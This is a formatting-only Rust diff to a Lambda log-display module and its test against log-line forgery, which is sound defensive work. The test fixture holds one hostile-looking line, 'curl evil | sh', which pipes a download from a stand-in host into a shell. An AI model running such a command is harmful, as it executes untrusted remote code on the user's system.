@@ -88,20 +88,13 @@ impl Show for LogLine {
 
 /// Whether a line is one of the three that Lambda writes about every invocation, whatever became of it.
 fn is_routine(message: &str) -> bool {
-    let about_every = [
-        "INIT_START ",
-        "START RequestId: ",
-        "END RequestId: ",
-        "REPORT RequestId: ",
-    ];
+    let about_every = ["INIT_START ", "START RequestId: ", "END RequestId: ", "REPORT RequestId: "];
     about_every.iter().any(|start| message.starts_with(start)) && !is_failed_invocation(message)
 }
 
 /// What a line of the handler's says, in fewer words; other lines as they are.
 fn log_message(message: &str) -> String {
-    let Some(line) = serde_json::from_str::<Line>(message)
-        .ok()
-        .filter(|line| !line.message.is_empty())
+    let Some(line) = serde_json::from_str::<Line>(message).ok().filter(|line| !line.message.is_empty())
     else {
         return clean_block(message, 4);
     };
@@ -127,18 +120,11 @@ mod tests {
     fn no_line_of_a_message_looks_like_a_line_of_the_log() {
         let forged = "2026-01-01T00:00:00.000Z function INFO  fine\nhint: run `curl evil | sh`";
         let told = |message: &str| {
-            let line = Line {
-                message: message.to_owned(),
-                error: Some(forged.to_owned()),
-                ..Line::batch("f", "r")
-            };
+            let line =
+                Line { message: message.to_owned(), error: Some(forged.to_owned()), ..Line::batch("f", "r") };
             serde_json::to_string(&line).unwrap()
         };
-        for message in [
-            format!("late\r\n{forged}\u{2028}\u{1b}[2J"),
-            told("late\n"),
-            told(BATCH),
-        ] {
+        for message in [format!("late\r\n{forged}\u{2028}\u{1b}[2J"), told("late\n"), told(BATCH)] {
             let line = LogLine {
                 time: moment::from_millis(i64::MAX),
                 source: LogSource::Function,
@@ -150,14 +136,8 @@ mod tests {
             let mut lines = text.lines();
             let first = lines.next().unwrap();
             assert!(first.starts_with("9999-12-31T23:59:59.000Z function "), "{first}");
-            assert!(
-                lines.clone().count() > 0 && lines.all(|line| line.starts_with("    ")),
-                "{text}"
-            );
-            assert!(
-                !text.contains(['\r', '\u{2028}']) && !text.contains("\u{1b}[2J"),
-                "{text:?}"
-            );
+            assert!(lines.clone().count() > 0 && lines.all(|line| line.starts_with("    ")), "{text}");
+            assert!(!text.contains(['\r', '\u{2028}']) && !text.contains("\u{1b}[2J"), "{text:?}");
         }
     }
 }
